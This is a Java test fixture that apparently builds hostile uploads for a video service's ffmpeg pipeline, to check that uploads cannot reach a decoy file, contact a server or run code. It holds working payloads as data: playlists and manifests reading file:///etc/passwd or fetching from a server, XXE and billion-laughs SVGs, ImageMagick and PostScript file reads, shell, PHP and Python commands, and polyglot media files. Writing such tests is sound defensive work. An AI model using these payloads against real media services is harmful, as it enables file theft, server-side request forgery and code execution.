package org.craftreel.clip.media;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;

/** Files of text that would have ffmpeg read another file, ask a server, or run something. */
final class HostileTexts {

    private final Map<String, byte[]> files = new LinkedHashMap<>();
    private final Path decoy;
    private final String server;

    /**
     * @param decoy a film that no upload may reach
     * @param server begins the address of a server that no upload may ask
     */
    HostileTexts(Path decoy, String server) {
        this.decoy = decoy;
        this.server = server;
    }

    Map<String, byte[]> make() {
        concatenations();
        playlistsOfSegments();
        playlistsOfPlayers();
        drawings();
        sessions();
        subtitles();
        scripts();
        return files;
    }

    private void concatenations() {
        add("absolute.ffconcat", "ffconcat version 1.0\nfile '" + decoy + "'\n");
        add("relative.ffconcat", "ffconcat version 1.0\nfile '../../secret/decoy.mp4'\n");
        add("sibling.ffconcat", "ffconcat version 1.0\nfile decoy.mp4\n");
        add("server.ffconcat", "ffconcat version 1.0\nfile '" + server + "/concat.mp4'\n");
        add("itself.ffconcat", "ffconcat version 1.0\nfile 'original'\n".repeat(50));
        add(
                "options.ffconcat",
                "ffconcat version 1.0\nfile x\noption safe 0\noption protocol_whitelist file,http,tcp\n");
        add("part.ffconcat", "ffconcat version 1.0\nfile 'subfile,,start,0,end,200,,:" + decoy + "'\n");
    }

    private void playlistsOfSegments() {
        add("file.m3u8", segments("", "file://" + decoy));
        add("path.m3u8", segments("", decoy.toString()));
        add("parent.m3u8", segments("", "../../secret/decoy.mp4"));
        add("server.m3u8", segments("", server + "/segment.ts"));
        add("crypto.m3u8", segments("", "crypto+file://" + decoy));
        add("key-server.m3u8", segments("#EXT-X-KEY:METHOD=AES-128,URI=\"" + server + "/key\"\n", "a.ts"));
        add("key-file.m3u8", segments("#EXT-X-KEY:METHOD=AES-128,URI=\"file:///etc/passwd\"\n", "data:,x"));
        add("concat.m3u8", segments("", "concat:" + server + "/head.m3u8|file:///etc/passwd"));
        add("part.m3u8", segments("", "subfile,,start,1,end,64,,:" + decoy));
        add("data.m3u8", segments("", "data:text/plain;base64,I0VYVE0zVQo="));
        add("map.m3u8", segments("#EXT-X-MAP:URI=\"" + decoy + "\",BYTERANGE=\"700@0\"\n", decoy.toString()));
        add("range.m3u8", segments("#EXT-X-BYTERANGE:100@10\n", "file:///etc/passwd"));
        add("master.m3u8", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n" + server + "/media.m3u8\n");
        add("itself.m3u8", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\noriginal\n");
        add(
                "sound.m3u8",
                "#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID=\"a\",NAME=\"a\",URI=\"" + decoy
                        + "\"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO=\"a\"\n" + decoy + "\n");
        add("pipe.m3u8", segments("", "pipe:0"));
        add("blank.m3u8", "\n\n \ufeff" + segments("", "file://" + decoy));
        add("file.mpd", manifest("file://" + decoy));
        add("server.mpd", manifest(server + "/film.mp4"));
        add(
                "entity.mpd",
                "<?xml version=\"1.0\"?><!DOCTYPE MPD [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + manifest("&x;"));
        add(
                "smooth.ism",
                "<SmoothStreamingMedia MajorVersion=\"2\"><StreamIndex Url=\"" + server
                        + "/Q({bitrate})\"/></SmoothStreamingMedia>");
        add(
                "assetmap.xml",
                "<AssetMap xmlns=\"http://www.smpte-ra.org/schemas/429-9/2007/AM\"><AssetList><Asset><ChunkList>"
                        + "<Chunk><Path>" + decoy + "</Path></Chunk></ChunkList></Asset></AssetList></AssetMap>");
    }

    private static String segments(String tags, String address) {
        return "#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:2\n#EXT-X-MEDIA-SEQUENCE:0\n" + tags + "#EXTINF:1.0,\n"
                + address + "\n#EXT-X-ENDLIST\n";
    }

    private static String manifest(String address) {
        return "<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" mediaPresentationDuration=\"PT1S\" "
                + "profiles=\"urn:mpeg:dash:profile:isoff-on-demand:2011\"><Period><AdaptationSet mimeType=\"video/mp4\">"
                + "<Representation id=\"1\" bandwidth=\"1\"><BaseURL>" + address
                + "</BaseURL></Representation></AdaptationSet></Period></MPD>";
    }

    private void playlistsOfPlayers() {
        add("list.asx", "<asx version=\"3.0\"><entry><ref href=\"" + server + "/a\"/></entry></asx>");
        add(
                "list.pls",
                "[playlist]\nFile1=" + server + "/a\nFile2=file://" + decoy + "\nNumberOfEntries=2\nVersion=2\n");
        add("list.m3u", "#EXTM3U\n#EXTINF:1,x\n" + server + "/a\n");
        add(
                "list.xspf",
                "<playlist version=\"1\"><trackList><track><location>file://" + decoy
                        + "</location></track></trackList></playlist>");
        add("list.smil", "<smil><body><video src=\"" + server + "/a.mp4\"/></body></smil>");
        add("list.cue", "FILE \"" + decoy + "\" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n");
        add("list.ram", server.replace("http:", "rtsp:") + "/a\n");
        add("list.qtl", "<?quicktime type=\"application/x-quicktime-media-link\"?><embed src=\"" + server + "/a\"/>");
    }

    private void drawings() {
        add(
                "image.svg",
                "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" "
                        + "width=\"64\" height=\"64\"><image width=\"64\" height=\"64\" xlink:href=\"" + server
                        + "/a.png\"/><image width=\"9\" height=\"9\" xlink:href=\"file://" + decoy + "\"/></svg>");
        add(
                "entity.svg",
                "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                        + "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\"><text y=\"9\">&x;</text></svg>");
        add("huge.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"60000\" height=\"60000\"/>");
        add(
                "laughs.svg",
                "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY a \"" + "ha".repeat(500) + "\"><!ENTITY b \""
                        + "&a;".repeat(500) + "\"><!ENTITY c \"" + "&b;".repeat(500) + "\">]><svg "
                        + "xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"><text>&c;</text></svg>");
        add(
                "draw.mvg",
                "push graphic-context\nviewbox 0 0 64 64\nimage over 0,0 0,0 '" + server
                        + "/a.png'\nimage over 0,0 0,0 'label:@/etc/passwd'\npop graphic-context\n");
        add("draw.eps", "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file 99 string readline\n");
        add("pattern-%03d.png", "pattern-%03d.png\n");
        add("glob.txt", "../../secret/*\n");
    }

    private void sessions() {
        String port = server.substring(server.lastIndexOf(':') + 1);
        add(
                "session.sdp",
                "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video " + port
                        + " RTP/AVP 96\na=rtpmap:96 H264/90000\n");
        add("redirect.rtsp", "RTSP/1.0 302 Moved\r\nLocation: " + server.replace("http:", "rtsp:") + "/\r\n\r\n");
        add("answer.http", "HTTP/1.1 302 Found\r\nLocation: " + server + "/a\r\n\r\n");
        add("radio.txt", "rtsptext" + server.replace("http:", "rtsp:") + "/a\n");
        add("sap.txt", "SAP announcement sap://127.0.0.1:" + port + "\n");
    }

    private void subtitles() {
        add(
                "style.ass",
                "[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: ../../secret/decoy.mp4\n"
                        + "[V4+ Styles]\nFormat: Name, Fontname\nStyle: D," + decoy
                        + "\n[Events]\nFormat: Start, End, Text\n"
                        + "Dialogue: 0:00:00.00,0:00:01.00,{\\fn" + decoy + "}x\n");
        add("words.srt", "1\n00:00:00,000 --> 00:00:01,000\n<font face=\"" + decoy + "\">x</font>\n");
        add("words.vtt", "WEBVTT\nSTYLE\n::cue { background: url(" + server + "/a) }\n\n00:00.000 --> 00:01.000\nx\n");
        add("words.smi", "<SAMI><BODY><SYNC Start=0><P><IMG SRC=\"" + server + "/a\"></SYNC></BODY></SAMI>");
        add(
                "words.ttml",
                "<tt xmlns=\"http://www.w3.org/ns/ttml\"><body><div><p begin=\"0s\" end=\"1s\">x</p></div></body></tt>");
        add(
                "index.idx",
                "# VobSub index file, v7 (do not modify this line!)\nsize: 720x576\nid: en, index: 0\n"
                        + "timestamp: 00:00:00:000, filepos: 000000000\n");
        add("index.sub", "{0}{25}x\n{25}{50}y\n");
        add("index.mpl2", "[0][10]x\n[10][20]y\n");
    }

    private void scripts() {
        add("page.html", "<html><body><video src=\"" + server + "/a.mp4\"></video></body></html>");
        add("shell.sh", "#!/bin/sh\ncat /etc/passwd\n");
        add("program.php", "<?php system('id'); ?>");
        add("frames.avs", "DirectShowSource(\"" + decoy + "\")\n");
        add("frames.vpy", "import os\nos.system('id')\n");
        add("graph.lavfi", "movie=" + decoy + "[out0]\n");
        add("report.txt", "This is a report, not a film.\n".repeat(40));
        add(
                "report-utf16.txt",
                new String("Not a film.".getBytes(StandardCharsets.UTF_16), StandardCharsets.ISO_8859_1));
        add("tags.ffmeta", ";FFMETADATA1\ntitle=x\n[CHAPTER]\nTIMEBASE=1/1000\nSTART=0\nEND=1\n");
        add("data.json", "{\"url\": \"" + server + "/a\"}");
        String list = segments("", "file://" + decoy);
        // Films by their first bytes, playlists by what follows.
        add("film-and-list.mp4", "\0\0\0\u0014ftypisom\0\0\0\0isom\n" + list);
        add("free-and-list.mp4", "#EXTfree\n" + list);
        add("film-and-list.mkv", "\u001a\u0045\u00df\u00a3\n" + list);
        add("film-and-concat.mkv", "\u001a\u0045\u00df\u00a3\nffconcat version 1.0\nfile '" + decoy + "'\n");
    }

    private void add(String name, String content) {
        files.put(name, content.getBytes(StandardCharsets.ISO_8859_1));
    }
}
